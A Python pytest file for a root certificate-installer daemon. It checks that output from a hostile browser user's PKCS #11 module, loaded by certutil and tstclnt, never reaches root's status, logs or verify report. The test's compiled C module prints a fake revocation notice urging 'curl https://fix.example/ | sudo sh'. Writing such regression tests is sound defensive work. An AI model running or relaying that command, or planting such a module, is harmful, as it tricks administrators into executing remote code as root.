"""What a browser user's certutil and tstclnt print never reaches root's status, log or verify
report, and never aborts verify, run for real.

Each test is an attack that once worked; it states the behaviour that should hold, and fails
while the attack works. Everything runs in a private
mount namespace with a throwaway browser user (tests/support/browseruser.py), who lists its own
PKCS #11 module in its own database's pkcs11.txt, so every certutil and tstclnt the daemon runs
as that user loads the user's code. The host's trust store and /root are never touched.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import pytest

from tests.support.attack import gcc
from tests.support.builders import manifest, unique
from tests.support.certs import make_ca
from tests.support.hostile import INSTALL_BOUND, Hostile
from tests.support.moto import MotoServer
from tests.support.tls import https_server

pytestmark = pytest.mark.root


# What the user wants root's status, answers and logs to say.
NOTICE = "SECURITY NOTICE from trustinstaller: corp-root was REVOKED by IT"

# The user's module: loaded by every certutil and tstclnt that opens the user's database. In
# certutil it prints the notice on stdout and stderr and fails; in tstclnt it prints NSS's
# connection-refused error (with the notice) and fails, as if the server were down.
NOTICE_C = r"""
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
__attribute__((constructor)) static void notice(void) {
    char comm[32] = "";
    int fd = open("/proc/self/comm", O_RDONLY);
    if (fd >= 0) { if (read(fd, comm, sizeof comm - 1) < 0) comm[0] = 0; close(fd); }
    if (strncmp(comm, "tstclnt", 7) == 0) {
        dprintf(2, "tstclnt: unable to connect: PR_CONNECT_REFUSED_ERROR: " NOTICE
                "; restore trust with: curl https://fix.example/ | sudo sh\n");
        _exit(1);
    }
    if (strncmp(comm, "certutil", 8) == 0) {
        dprintf(1, NOTICE "\n");
        dprintf(2, NOTICE "; restore trust with: curl https://fix.example/ | sudo sh\n");
        _exit(1);
    }
}
"""


def _noticing_db(hostile: Hostile) -> Path:
    """The user makes ~/.pki/nssdb and lists its notice module in that database's pkcs11.txt."""
    home = hostile.user.home
    lib = gcc(NOTICE_C, home / "libnotice.so", "-shared", "-fPIC", f'-DNOTICE="{NOTICE}"')
    lib.chmod(0o755)
    db = home / ".pki" / "nssdb"
    hostile.module_db(db, lib)
    return db


def _session(hostile: Hostile, moto: MotoServer) -> tuple[Path, object]:
    """A manifest naming a fresh CA; and that CA, to sign a server with."""
    ca = make_ca("trustinstaller notice CA")
    arn = moto.put_secret(unique("notice"), ca.pem)
    path = hostile.manifest.with_name(f"manifest-{unique()}.json")
    path.write_bytes(manifest(session=[arn]))
    return path, ca


def test_a_users_certutil_cannot_write_into_roots_status_or_log(
    hostile: Hostile, moto: MotoServer
) -> None:
    """What the user's certutil prints reaches neither root's status, nor its answer, nor its log.

    The store is skipped with a warning that names it, the step and how it ended, in the
    project's own words; the session still locks for every other store.
    """
    db = _noticing_db(hostile)
    path, _ = _session(hostile, moto)
    done = hostile.agent("apply", str(path), timeout=INSTALL_BOUND)
    status = hostile.agent("status", "--json", timeout=60)
    human = hostile.agent("status", timeout=60)
    state_file = hostile.ns.run(["cat", "/run/trustinstaller/status.json"]).stdout
    everything = {
        "apply's answer and log": done.stdout + done.stderr,
        "status --json": status.stdout + status.stderr,
        "status": human.stdout + human.stderr,
        "status.json": state_file,
    }
    leaked = [where for where, text in everything.items() if "SECURITY NOTICE" in text]
    assert not leaked, f"the user's words reached {leaked}:\n{done.stderr[-1500:]}"
    doc = json.loads(status.stdout)
    assert doc["state"] == "locked", done.stderr[-1500:]
    (cert,) = doc["certificates"]
    assert f"nss:{db}" not in cert["stores"]
    (warning,) = [w for w in cert["warnings"] if f"nss:{db}" in w]
    assert "certutil -L" in warning, warning
    assert f"failed (exit 1), as user {hostile.user.name}; its output is the user's" in warning


@pytest.mark.slow
def test_a_users_tstclnt_neither_aborts_verify_nor_speaks_in_it(
    hostile: Hostile, moto: MotoServer
) -> None:
    """verify reports every path even when the user's tstclnt says the server refused it.

    The user's database gets "cannot connect" in the project's words; the OS bundle, the
    combined bundle and the user's other database are still judged, and accept.
    """
    db = _noticing_db(hostile)
    path, ca = _session(hostile, moto)
    done = hostile.agent("apply", str(path), timeout=INSTALL_BOUND)
    assert done.returncode == 0, done.stderr[-1500:]
    with https_server(ca) as url:  # type: ignore[arg-type]
        answer = hostile.agent("verify", url, "--json", timeout=INSTALL_BOUND)
        text = hostile.agent("verify", url, timeout=INSTALL_BOUND)
    assert "SECURITY NOTICE" not in answer.stdout + answer.stderr + text.stdout + text.stderr
    assert answer.stdout, f"verify reported no path (exit {answer.returncode}): {answer.stderr}"
    verdicts = {(v["trust_path"], v["client"], v["location"]): v for v in json.loads(answer.stdout)}
    refused = [k for k, v in verdicts.items() if not v["accepted"]]
    assert refused == [("nss", "", str(db))], verdicts
    mine = verdicts["nss", "", str(db)]
    assert mine["reason"] == "cannot connect"
    assert mine["detail"].endswith("tstclnt: PR_CONNECT_REFUSED_ERROR"), mine
    assert ("os bundle", "openssl default", "/etc/ssl/certs/ca-certificates.crt") in verdicts
    assert answer.returncode == 3
    assert "ACCEPTS  os bundle" in text.stdout


def test_a_server_nobody_can_reach_is_each_paths_verdict(hostile: Hostile) -> None:
    """With nothing listening, every path says "cannot connect", and none is left out."""
    free = subprocess.run(
        ["python3", "-c", "import socket; s=socket.socket(); s.bind(('127.0.0.1', 0)); "
         "print(s.getsockname()[1])"], capture_output=True, text=True, check=True,
    ).stdout.strip()  # fmt: skip
    answer = hostile.agent("verify", f"https://127.0.0.1:{free}/", "--json", timeout=INSTALL_BOUND)
    verdicts = json.loads(answer.stdout)
    # Two bundles, each as two kinds of client, both of the user's databases, and both
    # Chromium policy directories.
    assert len(verdicts) == 8, verdicts
    for v in verdicts:
        if v["reason"] != "missing":
            assert v["reason"] == "cannot connect", v
    assert answer.returncode == 3
